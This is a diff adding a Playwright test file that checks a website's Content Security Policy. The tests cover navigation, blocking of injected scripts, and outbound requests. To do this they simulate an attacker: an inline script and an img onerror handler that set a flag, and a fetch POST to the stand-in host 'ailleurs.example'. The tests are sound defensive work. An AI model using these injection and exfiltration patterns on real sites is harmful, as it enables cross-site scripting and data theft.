@@ -1,0 +1,79 @@
+import type { Page } from 'playwright/test';
+import { startBareHost, type BareHost } from '../support/bare-host';
+import { contactPage, formOn } from '../support/forms';
+import { allPaths, pages } from '../support/routes';
+import { expect, expectScriptReady, open, test as visit } from '../support/visit';
+
+// Every visit fails on a violation of the policy: see support/visit.ts.
+const test = visit.extend<{ bareHost: BareHost }>({
+  bareHost: async ({ tolerate }, provide) => {
+    tolerate(/^other origin: http:\/\/127\.0\.0\.1/);
+    const host = await startBareHost();
+    await provide(host);
+    await host.stop();
+  },
+});
+
+const VIOLATIONS = [/^console error: .*Content Security Policy/s, /^console error: policy violation: /];
+
+async function walkThrough(page: Page, origin: string) {
+  for (const path of allPaths) {
+    await open(page, origin + path);
+    await page.evaluate(() => window.scrollTo({ top: document.body.scrollHeight, behavior: 'instant' }));
+  }
+  for (const { label, path } of [...pages].reverse()) {
+    await page.goto(`${origin}/devis`);
+    await expectScriptReady(page);
+    const bar = page.getByRole('navigation', { name: 'Navigation principale' });
+    await bar.getByRole('link', { name: label, exact: true }).click();
+    await expect(page).toHaveURL(origin + path);
+    await expectScriptReady(page);
+  }
+}
+
+test('pages and client navigation keep to the policy of the headers', async ({ page, baseURL }) => {
+  test.slow();
+  await walkThrough(page, baseURL ?? '');
+});
+
+test('pages and client navigation keep to the policy in the page itself', async ({ page, bareHost }) => {
+  test.slow();
+  await walkThrough(page, bareHost.origin);
+});
+
+/** Adds a script to the page as an attacker who found a hole would, and tells whether it ran. */
+async function inject(page: Page): Promise<boolean> {
+  return page.evaluate(async () => {
+    const script = document.createElement('script');
+    script.textContent = 'window.__injected = true';
+    document.body.append(script);
+    const image = document.createElement('img');
+    image.setAttribute('onerror', 'window.__injected = true');
+    image.src = '/icons/rien.png';
+    document.body.append(image);
+    await new Promise((done) => image.addEventListener('error', done));
+    return '__injected' in window;
+  });
+}
+
+test('a script that was not exported with the page does not run', async ({ page, bareHost, tolerate }) => {
+  tolerate(...VIOLATIONS, /404/);
+  for (const origin of ['', bareHost.origin]) {
+    await open(page, `${origin}/contact`);
+    expect(await inject(page)).toBe(false);
+  }
+});
+
+test('nothing can be sent to another site, nor the page be framed', async ({ page, tolerate }) => {
+  tolerate(...VIOLATIONS, /^console error: /, /^other origin/, /^failed request/);
+  const response = await page.goto('/contact');
+  expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
+  const sent = await page.evaluate(() =>
+    fetch('https://ailleurs.example/', { method: 'POST', body: 'x' }).then(
+      () => true,
+      () => false,
+    ),
+  );
+  expect(sent).toBe(false);
+  await expect(formOn(page, contactPage).form).toBeVisible();
+});
